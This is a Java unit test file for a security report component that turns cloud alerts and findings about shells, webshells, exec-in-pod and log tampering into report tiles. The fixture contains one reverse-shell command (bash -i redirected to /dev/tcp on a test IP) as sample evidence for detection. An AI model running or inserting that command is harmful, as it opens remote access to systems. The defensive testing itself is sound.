package org.ephemera.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.LocatedValue;
import org.ephemera.analyze.model.RuleBook;
import org.ephemera.analyze.model.Severity;
import org.junit.jupiter.api.Test;

/** Interactive access without an audit record. */
class InteractiveAccessTest {
    private static final Analysis SAMPLE = SampleAnalysis.plain();
    private static final Finding SHELL = Finding.of(
            RuleBook.standard().rule("CMD-003"),
            "checkout",
            "log: bash -i >& /dev/tcp/203.0.113.7/443",
            SAMPLE.findings().getFirst().evidence().getFirst());

    @Test
    void reportsReverseShellWithoutAuditRecord() {
        assertThat(InteractiveAccess.of(ModifiedAnalysis.findings(SAMPLE, List.of(SHELL))))
                .satisfies(tile -> {
                    assertThat(tile.answer()).isEqualTo("By a shell, it seems");
                    assertThat(tile.detail())
                            .startsWith("there is no audit record of it: CMD-003 checkout: log:" + " bash -i");
                    assertThat(tile.tone()).isEqualTo(Tone.BAD);
                });
    }

    @Test
    void reportsAlertAboutShell() {
        assertThat(InteractiveAccess.of(alerted("Execution:Runtime/ReverseShell")))
                .extracting(AnswerTile::answer, AnswerTile::detail, AnswerTile::tone)
                .containsExactly(
                        "By a shell, it seems",
                        "there is no audit record of it: the alert says so: Execution:Runtime/ReverseShell",
                        Tone.BAD);
        assertThat(InteractiveAccess.of(alerted("K8S.NODE_Webshell")).tone()).isEqualTo(Tone.BAD);
        assertThat(InteractiveAccess.of(alerted("Impact:Runtime/CryptoMinerExecuted"))
                        .answer())
                .startsWith("No sign");
        assertThat(InteractiveAccess.of(alerted("Impact:Runtime/CryptoMinerExecuted"))
                        .detail())
                .as("of what no record can be there yet, in any cloud")
                .endsWith("; calls of the last 20 minutes or so reach them late");
    }

    /** If the audit log of the cluster is not exported, the alert is the only evidence. */
    @Test
    void reportsAlertAboutExecInPod() {
        assertThat(InteractiveAccess.of(alerted("Execution:Kubernetes/AnomalousBehavior.ExecInPod")))
                .extracting(AnswerTile::answer, AnswerTile::detail, AnswerTile::tone)
                .containsExactly(
                        "Yes, the alert says",
                        "the package contains no audit record of it: Execution:Kubernetes/AnomalousBehavior.ExecInPod",
                        Tone.BAD);
        assertThat(InteractiveAccess.of(alerted("Terminal shell in container")).answer())
                .isEqualTo("Yes, the alert says");
        assertThat(InteractiveAccess.of(alerted("Redirect STDOUT/STDIN to Network Connection in Container"))
                        .answer())
                .isEqualTo("By a shell, it seems");
        assertThat(InteractiveAccess.of(alerted("Execution:Kubernetes/ExecInKubeSystemPod"))
                        .tone())
                .isEqualTo(Tone.BAD);
    }

    /** The type of an attack sequence is generic; the findings that it contains are specific. */
    @Test
    void readsFindingsOfAttackSequence() {
        assertThat(InteractiveAccess.of(
                                alerted("AttackSequence:ECS/CompromisedCluster", "Execution:Runtime/ReverseShell"))
                        .detail())
                .isEqualTo("there is no audit record of it: the alert says so: Execution:Runtime/ReverseShell");
        assertThat(InteractiveAccess.of(alerted(
                                "AttackSequence:EKS/CompromisedCluster",
                                "Execution:Kubernetes/AnomalousBehavior.ExecInPod"))
                        .answer())
                .isEqualTo("Yes, the alert says");
        assertThat(InteractiveAccess.of(alerted("AttackSequence:ECS/CompromisedCluster"))
                        .answer())
                .startsWith("No sign");
    }

    private static Analysis alerted(String... types) {
        return ModifiedAnalysis.alerts(
                ModifiedAnalysis.findings(SAMPLE, List.of()),
                Stream.of(types)
                        .map(type -> new LocatedValue<>(
                                type, SAMPLE.findings().getFirst().evidence().getFirst()))
                        .toList());
    }

    @Test
    void statesThatLogsWereTamperedWith() {
        Finding first = SAMPLE.findings().getFirst();
        Finding tampered = Finding.of(
                RuleBook.standard().rule("EXE-009"),
                "user",
                "StopLogging org",
                first.evidence().getFirst());
        AnswerTile tile = InteractiveAccess.of(ModifiedAnalysis.findings(SAMPLE, List.of(tampered)));
        assertThat(tile.detail()).contains("EXE-009");
        assertThat(tile.tone()).isEqualTo(Tone.CAUTION);
    }

    /** Covers a request to a server, a wait for a port, and an agent that uses a shell by design. */
    @Test
    void ignoresSimilarButHarmlessFindings() {
        assertThat(List.of(
                        SHELL.withSeverity(Severity.MEDIUM),
                        SHELL.withSeverity(Severity.LOW),
                        SHELL.suppressedAs("an agent")))
                .allSatisfy(finding -> assertThat(
                                InteractiveAccess.of(ModifiedAnalysis.findings(SAMPLE, List.of(finding)))
                                        .answer())
                        .startsWith("No sign"));
    }
}
